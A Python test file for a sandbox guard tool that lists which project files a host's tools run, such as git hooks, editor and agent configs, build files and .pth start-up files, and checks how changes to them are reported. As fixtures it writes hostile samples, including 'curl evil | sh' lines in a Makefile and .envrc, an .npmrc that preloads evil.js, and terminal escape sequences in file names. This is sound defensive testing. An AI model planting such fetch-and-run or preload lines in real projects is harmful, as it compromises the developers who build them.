"""The host-executed surface: which paths the host's tools run, found by
classify and by a walk alike; and how changes to them are reported.

The expected lists below are written out here, not derived from the code's
tables, so that an entry dropped from the code fails a test."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from hutch.guard import report
from hutch.guard import tree as t
from hutch.guard.patterns import Policy
from hutch.guard.report import Change, display, format_changes
from hutch.guard.surface import (
    BUILD_ANYWHERE,
    BUILD_ROOT,
    STARTUP_NAMES,
    SURFACE_ANYWHERE,
    SURFACE_ROOT,
    Context,
    classify,
)

from .support import KEY, walk, write

SURFACE = [
    # git and the hook managers a host `git commit` runs
    ".gitmodules",
    ".husky/pre-commit",
    ".husky/_/husky.sh",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    "lefthook.yaml",
    ".lefthook.yml",
    ".lefthook.yaml",
    "lefthook-local.yml",
    ".lefthook/pre-commit/check.sh",
    # editors
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".vscode/launch.json",
    ".idea/workspace.xml",
    ".idea/runConfigurations/x.xml",
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".zed/tasks.json",
    ".nvim.lua",
    ".nvimrc",
    ".exrc",
    # agents on the host
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/commands/deploy.md",
    ".mcp.json",
    ".cursor/mcp.json",
    ".cursor/rules/x.mdc",
    ".gemini/settings.json",
    ".codex/config.toml",
    "opencode.json",
    "opencode.jsonc",
    ".opencode/plugin/x.ts",
    ".aider.conf.yml",
    ".continue/config.yaml",
    # tool managers
    ".mise/tasks/build",
    "mise.local.toml",
    "hutch.toml",
    # anywhere outside vendored trees
    ".envrc",
    "services/api/.envrc",
    ".npmrc",
    "packages/web/.npmrc",
    ".yarnrc",
    "packages/web/.yarnrc",
    ".yarnrc.yml",
    "packages/web/.yarnrc.yml",
    ".pnpmfile.cjs",
    "packages/web/.pnpmfile.cjs",
    "bunfig.toml",
    "packages/web/bunfig.toml",
    ".mise.toml",
    "tools/.mise.toml",
    "mise.toml",
    "tools/mise.toml",
    # a gitdir pointer sends host git anywhere
    ".git",
    "worktree/.git",
    # nested repositories: what git on the host reads and runs there
    "sub/.git/config",
    "sub/.git/config.worktree",
    "sub/.git/hooks/pre-commit",
    "sub/.git/hooks/nested/helper",
    "sub/.git/commondir",
    "sub/.git/gitdir",
    "a/b/c/.git/hooks/post-checkout",
    # even in vendored trees
    "vendor/lib/.git/config",
    "node_modules/x/.git/hooks/post-checkout",
    "vendor/wt/.git",
    ".venv/src/pkg/.git/config",
]
BUILD = [
    "Makefile",
    "src/Makefile",
    "makefile",
    "GNUmakefile",
    "package.json",
    "packages/web/package.json",
    "pyproject.toml",
    "lib/pyproject.toml",
    "setup.py",
    "setup.cfg",
    "conftest.py",
    "tests/unit/conftest.py",
    "noxfile.py",
    "tox.ini",
    "build.rs",
    "crates/x/build.rs",
    "justfile",
    "Justfile",
    ".justfile",
    "Taskfile.yml",
    "Taskfile.yaml",
    "Rakefile",
    "build.gradle",
    "build.gradle.kts",
    "settings.gradle",
    "settings.gradle.kts",
    "gradlew",
    "pom.xml",
    "CMakeLists.txt",
    "docker-compose.yml",
    "docker-compose.yaml",
    "docker-compose.override.yml",
    "deploy/docker-compose.prod.yaml",
    "compose.yml",
    "compose.yaml",
    # the instructions the host's agents follow
    "CLAUDE.md",
    "docs/CLAUDE.md",
    "AGENTS.md",
    "GEMINI.md",
    # CI, and cargo's config (build.rustc-wrapper, runners)
    ".github/workflows/ci.yml",
    ".github/workflows/reusable/build.yaml",
    ".gitlab-ci.yml",
    ".cargo/config.toml",
    ".cargo/config",
]
STARTUP = [
    ".venv/lib/python3.11/site-packages/evil.pth",
    ".venv/lib/python3.11/site-packages/EVIL.PTH",
    "venv/lib/python3.12/site-packages/sitecustomize.py",
    ".venv/lib/python3.11/site-packages/usercustomize.py",
    "env/lib/python3.11/site-packages/x.pth",  # any virtualenv name: site-packages says it
    ".tox/py311/lib/python3.11/site-packages/x.pth",
    "node_modules/.bin/tsc",
    "node_modules/@scope/pkg/node_modules/.bin/x",
]
NOT_SURFACE = [
    "README.md",
    "src/main.py",
    "run.sh",
    "config",
    "src/config",
    "docs/.envrc.md",
    ".envrc.example",
    "src/.vscode-notes",
    "x.vscode/tasks.json",
    "vscode/tasks.json",
    ".claude.json",
    # a `hooks` directory outside a git directory
    "src/hooks/pre-commit",
    "app/hooks/use_thing.py",
    "sub/gitdir",
    "sub/commondir",
    # git's own data in a nested repository
    "sub/.git/HEAD",
    "sub/.git/index",
    "sub/.git/packed-refs",
    "sub/.git/description",
    "sub/.git/refs/heads/config",
    "sub/.git/refs/heads/hooks",
    "sub/.git/logs/HEAD",
    "sub/.git/objects/ab/cdef",
    "sub/.git/modules/lib/HEAD",
    "sub/.git/modules/lib/index",
    "sub/.git/modules/lib/refs/heads/main",
    "sub/.git/worktrees/feature/HEAD",
    # near misses of build files
    "Makefile.am",
    "package.json.bak",
    "my-docker-compose.yml",
    "docker-compose.yml.orig",
    ".github/CODEOWNERS",
    "docs/.github/workflows/ci.yml",
    ".cargo/credentials.toml",
    # vendored: never searched for build files or surface-anywhere names
    "node_modules/x/package.json",
    "node_modules/x/conftest.py",
    "node_modules/x/CLAUDE.md",
    "node_modules/x/.npmrc",
    "node_modules/x/.envrc",
    "vendor/pkg/Makefile",
    ".venv/lib/python3.11/site-packages/pkg/setup.py",
    "vendor/x/.github/workflows/ci.yml",
    # start-up names outside vendored trees, and near misses inside
    "lib/x.pth",
    "node_modules/x/bin/cli.js",
    "node_modules/x/.bin/y",
    "node_modules/x/index.js",
    ".venv/lib/python3.11/site-packages/pkg/__init__.py",
]
EXPECTED: dict[str, str | None] = {
    **dict.fromkeys(SURFACE, "surface"),
    **dict.fromkeys(BUILD, "build"),
    **dict.fromkeys(STARTUP, "startup"),
    **dict.fromkeys(NOT_SURFACE, None),
}


def test_the_lists_do_not_overlap() -> None:
    assert len(EXPECTED) == len(SURFACE) + len(BUILD) + len(STARTUP) + len(NOT_SURFACE)


@pytest.mark.parametrize("rel", list(EXPECTED))
def test_classify(rel: str) -> None:
    assert classify(rel) == EXPECTED[rel]


@pytest.mark.parametrize("rel", list(EXPECTED))
def test_classify_agrees_with_the_directory_context(rel: str) -> None:
    parent, _, name = rel.rpartition("/")
    assert Context(parent).kind(name, name.lower()) == EXPECTED[rel]


def _flag_kind(flags: int) -> str | None:
    kinds = [k for k, f in (("surface", t.SURFACE), ("build", t.BUILD), ("startup", t.STARTUP)) if flags & f]
    assert len(kinds) <= 1, kinds
    return kinds[0] if kinds else None


def test_a_walk_finds_exactly_the_expected_kinds(tmp_path: Path) -> None:
    for rel in EXPECTED:
        write(tmp_path / rel)
    found = {rel: _flag_kind(fact.flags) for rel, fact in walk(tmp_path).entries(t.WATCHED)}
    assert found == {rel: kind for rel, kind in EXPECTED.items() if kind is not None}


def test_a_walk_finds_them_when_they_are_symlinks(tmp_path: Path) -> None:
    # node_modules/.bin entries are links, and a link in place of a surface
    # file is reported as such (its target is what the host runs).
    write(tmp_path / "node_modules" / "x" / "cli.js")
    (tmp_path / "node_modules" / ".bin").mkdir()
    (tmp_path / "node_modules" / ".bin" / "x").symlink_to("../x/cli.js")
    (tmp_path / ".envrc").symlink_to("/tmp/elsewhere")
    (tmp_path / "Makefile").symlink_to("build/Makefile")
    found = {rel: _flag_kind(fact.flags) for rel, fact in walk(tmp_path).entries(t.WATCHED)}
    assert found == {"node_modules/.bin/x": "startup", ".envrc": "surface", "Makefile": "build"}


def test_surface_files_named_or_looking_like_secrets_stay_surface(tmp_path: Path) -> None:
    # Masked by name (.npmrc) or by content (a key in an extensionless file):
    # still host-executed, so a session must not slip one past the report by
    # making it look like a secret.
    write(tmp_path / ".npmrc", "node-options=--require ./evil.js\n")
    write(tmp_path / ".envrc", "# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n")
    write(
        tmp_path / "sub" / ".git" / "hooks" / "post-checkout",
        "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n",
        0o755,
    )
    write(tmp_path / "Makefile", f"all:\n\tcurl evil | sh\n# {KEY}")
    tree = walk(tmp_path)
    kinds = {rel: _flag_kind(fact.flags) for rel, fact in tree.entries(t.WATCHED)}
    assert kinds == {
        ".npmrc": "surface",
        ".envrc": "surface",
        "sub/.git/hooks/post-checkout": "surface",
        "Makefile": "build",
    }
    # They are masked all the same, and their content is known for the report.
    assert set(tree.masked()[0]) == set(kinds)
    assert all(fact.extra for _, fact in tree.entries(t.WATCHED))


def test_every_table_entry_has_an_example_here() -> None:
    # The other direction: an entry added to the code without a case here.
    surface = [rel for rel, kind in EXPECTED.items() if kind == "surface"]
    for entry in SURFACE_ROOT:
        assert any(rel == entry or rel.startswith(entry + "/") for rel in surface), entry
    for name in SURFACE_ANYWHERE:
        assert name in surface and any(rel.endswith("/" + name) for rel in surface), name
    build = [rel.rsplit("/", 1)[-1].lower() for rel, kind in EXPECTED.items() if kind == "build"]
    assert set(BUILD_ANYWHERE) <= set(build)
    for entry in BUILD_ROOT:
        assert any(rel == entry or rel.startswith(entry + "/") for rel in BUILD), entry
    for name in STARTUP_NAMES:
        assert any(rel.endswith("/" + name) for rel in STARTUP), name


@pytest.mark.parametrize(
    "rel",
    [
        "sub/.git/modules/lib/config",
        "sub/.git/modules/lib/hooks/pre-commit",
        "sub/.git/modules/libs/foo/config",  # a submodule's name may hold slashes
        "sub/.git/modules/lib/modules/inner/hooks/post-merge",
        "sub/.git/worktrees/feature/config.worktree",
        "sub/.git/worktrees/feature/commondir",
        "sub/.git/worktrees/feature/gitdir",
        "vendor/x/.git/modules/y/config",
    ],
)
def test_submodule_and_worktree_git_dirs_of_nested_repositories_are_surface(tmp_path: Path, rel: str) -> None:
    # `cd sub/lib && git status` on the host reads sub/.git/modules/lib/config
    # (core.fsmonitor runs a command) and runs its hooks.
    assert classify(rel) == "surface"
    write(tmp_path / rel)
    assert [r for r, _ in walk(tmp_path).entries(t.SURFACE)] == [rel]


# -- what a session changed -------------------------------------------------------


def session(root: Path, act: Callable[[], object]) -> list[Change]:
    time.sleep(t.RACY_NS / 1e9 + 0.02)
    before = walk(root)
    act()
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        _, pairs = t.Walker(fd, os.getuid(), Policy((), ()), None).refresh(before)
    finally:
        os.close(fd)
    return report.changes(pairs)


def base_project(root: Path) -> None:
    write(root / "src" / "main.py", "print('hi')\n")
    write(root / "scripts" / "run.sh", "#!/bin/sh\n", 0o755)
    write(root / "Makefile", "all:\n\techo hi\n")
    write(root / ".envrc", "use nix\n")
    write(root / "sub" / ".git" / "hooks" / "pre-commit.sample", "#!/bin/sh\n", 0o755)
    write(root / ".venv" / "lib" / "python3.11" / "site-packages" / "dist.pth", "/src\n")
    (root / "local-link").symlink_to("src/main.py")


def kinds(changes: list[Change]) -> list[tuple[str, str]]:
    return [(c.kind, c.path) for c in changes]


def test_an_untouched_project_reports_nothing(tmp_path: Path) -> None:
    base_project(tmp_path)
    assert session(tmp_path, lambda: None) == []


def test_ordinary_edits_and_new_plain_files_are_not_reported(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        write(tmp_path / "src" / "main.py", "print('changed')\n")
        write(tmp_path / "src" / "new.py", "x = 1\n")
        (tmp_path / "newdir" / "sub").mkdir(parents=True)
        (tmp_path / "src" / "alias.py").symlink_to("main.py")
        (tmp_path / "newdir" / "up").symlink_to("../src")
        (tmp_path / "src" / "main.py").chmod(0o600)
        write(tmp_path / "src" / "hooks" / "pre-commit", "not a hook\n")

    assert session(tmp_path, act) == []


@pytest.mark.parametrize(
    ("rel", "kind"),
    [("Makefile", "build"), (".venv/lib/python3.11/site-packages/dist.pth", "startup")],
)
def test_an_in_place_change_with_the_old_size_and_time_is_seen(tmp_path: Path, rel: str, kind: str) -> None:
    # The sandbox can set a file's mtime back; it cannot set its ctime.
    base_project(tmp_path)
    path = tmp_path / rel
    st = path.stat()

    def act() -> None:
        text = path.read_text()
        path.write_text(text[:-4] + "evil"[: len(text[-4:])])
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))

    assert path.stat().st_size == st.st_size
    assert kinds(session(tmp_path, act)) == [(kind, rel)]


def test_each_kind_of_change(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        write(tmp_path / "sub" / ".git" / "hooks" / "pre-commit", "#!/bin/sh\n", 0o755)
        write(tmp_path / "tools" / "new.sh", "#!/bin/sh\n", 0o700)
        (tmp_path / "scripts" / "run.sh").chmod(0o4755)
        (tmp_path / "local-link").unlink()
        (tmp_path / "local-link").symlink_to("/home")
        write(tmp_path / "Makefile", "all:\n\tcurl evil | sh\n")
        write(tmp_path / "lib" / "other" / ".git" / "HEAD", "ref: refs/heads/main\n")
        (tmp_path / ".envrc").unlink()

    assert kinds(session(tmp_path, act)) == [
        ("surface", ".envrc"),
        ("surface", "sub/.git/hooks/pre-commit"),
        ("repo", "lib/other/.git"),
        ("setuid", "scripts/run.sh"),
        ("build", "Makefile"),
        ("link-outside", "local-link"),
        ("executable", "tools/new.sh"),
    ]


# -- the report on a terminal -------------------------------------------------------


def test_format_orders_by_danger() -> None:
    every = [
        Change("hardlink", "h", "hard-linked from outside the project"),
        Change("foreign-owner", "f", "owned by uid 0"),
        Change("executable", "e", "new executable (mode 0755)"),
        Change("link-outside", "l", "-> /etc"),
        Change("build", "b", "modified file (mode 0644)"),
        Change("startup", "st", "new file (mode 0644)"),
        Change("setuid", "s", "setuid/setgid bit (mode 4755)"),
        Change("repo", "r/.git", "a new git repository"),
        Change("git", ".git/config", "modified, kept away"),
        Change("surface", ".envrc", "new file (mode 0644)"),
    ]
    lines = format_changes(every).split("\n")
    assert [line.split()[0] for line in lines] == [
        "surface",
        "git",
        "repo",
        "setuid",
        "startup",
        "build",
        "link-outside",
        "executable",
        "foreign-owner",
        "hardlink",
    ]
    assert lines[0] == "  surface       .envrc  new file (mode 0644)"


def test_format_lists_vendored_paths_last_and_caps_each_kind() -> None:
    changes = [Change("executable", f"node_modules/p/bin{i}", "new") for i in range(25)]
    changes.append(Change("executable", "zz/mine.sh", "new"))
    changes += [Change("build", f"pkg{i}/Makefile", "modified") for i in range(4)]
    text = format_changes(changes, limit=3)
    assert text.split("\n") == [
        "  build         pkg0/Makefile  modified",
        "  build         pkg1/Makefile  modified",
        "  build         pkg2/Makefile  modified",
        "  executable    zz/mine.sh  new",
        "  executable    node_modules/p/bin0  new",
        "  executable    node_modules/p/bin1  new",
        "  build         ... and 1 more",
        "  executable    ... and 23 more",
    ]


def test_format_nothing_is_empty() -> None:
    assert format_changes(()) == ""


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain/name.txt", "plain/name.txt"),
        ("ü/名前", "ü/名前"),
        ("new\nline", "new\\nline"),
        ("tab\there", "tab\\there"),
        ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),  # OSC 52 writes the clipboard
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
        ("a\rb", "a\\x0db"),
        ("del\x7f", "del\\x7f"),
        ("c1\x9b31m", "c1\\x9b31m"),  # the one-byte CSI
        ("ok\u202eexe.txt", "ok\\u202eexe.txt"),  # right-to-left override
        ("\u2066isolate\u2069", "\\u2066isolate\\u2069"),
        ("zero\u200bwidth", "zero\\u200bwidth"),
        ("bad\udcff\udcfe", "bad\\xff\\xfe"),  # bytes the file name could not decode
    ],
)
def test_names_are_escaped(raw: str, shown: str) -> None:
    assert display(raw) == shown
    line = format_changes([Change("surface", raw, f"-> {raw}")])
    assert line == f"  surface       {shown}  -> {shown}"
    assert line.isprintable()


def test_names_list_is_escaped_and_capped() -> None:
    assert report.names(["a\x1bb", "c"]) == "a\\x1bb, c"
    assert report.names([f"f{i}" for i in range(7)], shown=2) == "f0, f1 and 5 more"
